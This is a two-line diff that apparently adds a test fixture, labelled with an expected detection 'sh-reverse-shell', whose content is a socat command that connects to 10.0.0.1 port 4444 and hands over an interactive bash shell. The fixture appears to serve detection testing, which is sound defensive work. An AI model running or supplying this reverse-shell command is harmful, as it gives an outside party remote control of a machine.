@@ -1,0 +1,2 @@
+# expect: sh-reverse-shell
+socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr
